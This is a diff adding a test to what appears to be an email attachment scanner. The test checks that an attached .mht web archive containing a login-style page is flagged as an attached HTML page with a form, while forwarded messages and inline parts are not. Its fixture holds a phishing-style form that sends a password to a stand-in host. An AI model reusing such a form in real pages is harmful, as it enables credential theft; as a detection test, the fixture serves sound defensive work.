@@ -176,6 +176,19 @@ test("a CSV file's DDE formula, whatever the part's type (text/csv, Excel's, an 
   expect((await scanOf(withAttachment(csv, "Invoice_0412.csv", "text/csv"))).notes).toContain("attachments: csv file runs a program through a DDE formula when opened in Excel");
 });
 
+test("a web archive's page (.mht, parsed as an attached message) is an attached page; a forwarded message's HTML, and the parts after the archive, are not", () => {
+  const page = '<html><body><form action="https://x.example/a"><input type="password" name="p"></form></body></html>';
+  const mht = `MIME-Version: 1.0\nContent-Type: multipart/related; type="text/html"; boundary=r\n\n--r\nContent-Type: text/html\nContent-Location: https://x.example/\n\n${page}\n--r--\n`;
+  const msg = (name: string, after = "") =>
+    new TextEncoder().encode(`From: a@sender.example\nTo: user@example.com\nSubject: x\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain\n\nsee attached\n--b\nContent-Type: message/rfc822; name="${name}"\nContent-Disposition: attachment; filename="${name}"\n\n${mht}\n${after}--b--\n`);
+  expect(archiveSigns(msg("Invoice_0412.mht"))).toEqual(["ATTACH_HTML", "ATTACH_HTML_FORM"]);
+  expect(archiveSigns(msg("Invoice_0412.MHTML "))).toEqual(["ATTACH_HTML", "ATTACH_HTML_FORM"]);
+  expect(archiveSigns(msg("Fwd: your order.eml"))).toEqual([]);
+  // An inline HTML part after the web archive, back at the top level, is the mail's own: its script is no attached page's.
+  expect(archiveSigns(msg("Invoice_0412.mht", "--b\nContent-Type: text/html\n\n<p>hi</p><script>track()</script>\n"))).toEqual(["ATTACH_HTML", "ATTACH_HTML_FORM"]);
+  expect(archiveSigns(msg("Invoice_0412.mht", "--b\nContent-Type: multipart/alternative; boundary=c\n\n--c\nContent-Type: text/html\n\n<p>hi</p><script>track()</script>\n--c--\n"))).toEqual(["ATTACH_HTML", "ATTACH_HTML_FORM"]);
+});
+
 test("the bytes decide: an archive named and typed as a PDF is an archive, and its program is seen", () => {
   expect(archiveSigns(withAttachment(bytes("fixtures/archives/made/invoice-js.zip"), "scan.pdf", "application/pdf"))).toEqual(["ATTACH_ARCHIVE", "ATTACH_ARCHIVE_DOUBLE_EXT", "ATTACH_ARCHIVE_EXECUTABLE"]);
 });
